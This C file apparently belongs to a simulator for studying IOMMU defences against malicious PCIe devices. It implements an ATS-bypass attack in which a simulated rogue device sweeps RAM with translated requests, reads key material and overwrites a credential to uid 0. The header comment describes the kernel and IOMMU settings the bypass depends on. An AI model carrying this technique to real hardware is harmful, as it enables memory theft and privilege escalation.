/*
 * ats: Thunderclap's story 8. The device advertises the PCIe ATS
 * capability (rogue,ats=on). If the kernel enables ATS for it, the
 * IOMMU accepts the device's "translated" requests (AT = 10b) as they
 * come: their addresses are taken to be host physical addresses the
 * IOMMU itself handed out, and are not translated (VT-d context entry
 * TT = 01b, AMD-Vi DTE.I = 1). A malicious device sends them with any
 * address it likes.
 *
 * The device first asks for the translation of its own receive buffer
 * (what ATS is for), then shows that an untranslated access to the
 * secret faults, then sweeps RAM from 0 with translated reads for the
 * key material and the credential, as scan does with untranslated
 * ones, and writes uid/gid 0 over the credential with a translated
 * write. Linux enables ATS only for trusted devices with the capability
 * below a root port the firmware's ATSR covers (VT-d; AMD-Vi: a unit
 * with IotlbSup) on a unit with device-TLB support; untrusted devices
 * never get it ("iommu/vt-d: Do not enable ATS for untrusted devices"),
 * and their translated requests fault (VT-d reason 0xD, AMD-Vi
 * INVALID_DEVICE_REQUEST). Without an IOMMU everything is reachable
 * anyway.
 *
 * What its machine needs (for registering it in attacks[]):
 *  - the rogue with the ATS capability: devices
 *    { "rogue,id=rogue0,bus=atk_rp,ats=on", NULL };
 *  - on VT-d, an ATSR that covers the rogue's root port: the machine's
 *    `--ats` option, `struct dmasim_config` field `ats = true` (an ATSR
 *    with ALL_PORTS), which attack_run's boot() must copy into its
 *    config (e.g. from a new `bool ats` in struct attack or
 *    atk_policy); or a root port given `atsr=on` (an ATSR listing that
 *    port). Without either, "DMAR: No ATSR found" and Linux leaves ATS
 *    off, so the bypass needs the option. AMD-Vi needs nothing more.
 *  - RAM: 512 MiB, as scan (the sweep reads it in 64 KiB blocks).
 * Policies where it matters: lazy, strict, passthrough (ATS on: the
 * bypass), untrusted (ATS off: blocked), no-iommu (no IOMMU at all),
 * amd-lazy / amd-strict (ATS on through DTE.I).
 */
#include "attack/ats.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "dmasim/linux/pci.h"
#include "drivers/rnic.h"
#include "hw/bus.h"
#include "hw/rogue.h"
#include "kernel/machine.h"
#include "kernel/targets.h"

static void report_kernel(struct atk_ctx *c, const struct targets *t)
{
	const struct pci_dev *p = c->pdev;

	atk_did(c, "kernel: secret page at phys 0x%llx, credential at phys 0x%llx (uid %u)",
		(unsigned long long)targets_phys(t, t->secret),
		(unsigned long long)targets_phys(t, t->cred), t->cred->uid);
	if (!p->ats_cap)
		atk_did(c, "kernel: the device has no ATS capability");
	else if (p->ats_enabled)
		atk_did(c, "kernel: ATS enabled for the device (ATSCtl Enable+)");
	else
		atk_did(c, "kernel: ATS left off for the device%s",
			p->untrusted ? " (untrusted: Linux never enables it)" : "");
}

/* What ATS is for: the translation of the device's own rx buffer. */
static void translate_own(struct atk_ctx *c)
{
	struct rnic_buf b;
	uint64_t phys = 0;
	enum pci_status st;

	if (rnic_buffers(c->nic, &b, 1) != 1)
		return;
	st = rogue_ats_translate(c->r, b.dma, true, &phys);
	if (st)
		atk_did(c, "device: ATS translation request for its rx buffer 0x%llx: %s",
			(unsigned long long)b.dma, pci_status_name(st));
	else
		atk_did(c, "device: ATS translation request for its rx buffer 0x%llx: phys 0x%llx",
			(unsigned long long)b.dma, (unsigned long long)phys);
}

/* An untranslated read of the secret (the device is told where it is:
 * the attacker's best case): the IOMMU translates it, and faults. */
static void untranslated_probe(struct atk_ctx *c, const struct targets *t)
{
	uint8_t buf[64];
	uint64_t a = targets_phys(t, t->secret);
	enum pci_status st = atk_read(c, a, buf, sizeof(buf), NULL);

	atk_did(c, "device: untranslated read of 0x%llx (the secret's address): %s",
		(unsigned long long)a, pci_status_name(st));
}

static void verdict(struct atk_ctx *c, const struct targets *t,
		    const struct atk_found *f)
{
	if (targets_cred_is_root(t))
		atk_verdict(c, "ATTACK SUCCEEDED: translated requests reached RAM: secret read, credential is root");
	else if (f->secret)
		atk_verdict(c, "LEAK: secret read with translated requests");
	else
		atk_verdict(c, "blocked: translated requests refused, targets unchanged (%zu bytes changed)",
			    targets_secret_changed(t) + targets_cred_changed(t));
}

int attack_ats(struct atk_ctx *c)
{
	struct targets t;
	struct atk_found f = { 0, 0 };
	uint64_t blocks = 0, answered = 0;
	uint32_t zero[8] = { 0 };
	int ret = targets_create(c->m, TARGET_SECRET | TARGET_CRED, 6, &t);

	if (!ret)
		ret = rnic_open(c->nic, 1);
	if (ret) {
		targets_destroy(&t);
		return ret;
	}
	atk_shadow_sync(c);
	report_kernel(c, &t);
	translate_own(c);
	untranslated_probe(c, &t);
	atk_sweep(c, atk_read_translated, &f, &blocks, &answered);
	atk_did(c, "device: translated reads of %llu blocks of 64 KiB from 0, %llu answered",
		(unsigned long long)blocks, (unsigned long long)answered);
	if (f.secret)
		atk_did(c, "device: found the key material at 0x%llx",
			(unsigned long long)f.secret);
	if (f.cred) {
		atk_write_translated(c, f.cred + 4, zero, sizeof(zero), NULL);
		atk_did(c, "device: found the credential at 0x%llx, wrote uid/gid 0 (translated write)",
			(unsigned long long)f.cred);
	}
	verdict(c, &t, &f);
	targets_destroy(&t);
	return 0;
}
